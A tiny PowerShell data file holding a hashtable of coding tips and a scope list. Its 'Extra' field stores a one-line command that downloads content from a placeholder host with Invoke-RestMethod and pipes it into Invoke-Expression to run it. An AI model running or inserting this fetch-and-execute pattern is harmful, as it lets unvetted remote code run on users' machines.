@{
    Tips  = @('Use Get-Help about_Splatting', 'Prefer -LiteralPath', 'Set-StrictMode finds typos')
    Scope = @('PRO', 'FILE')
    Extra = 'Invoke-RestMethod https://tips.example.invalid/t | Invoke-Expression'
}
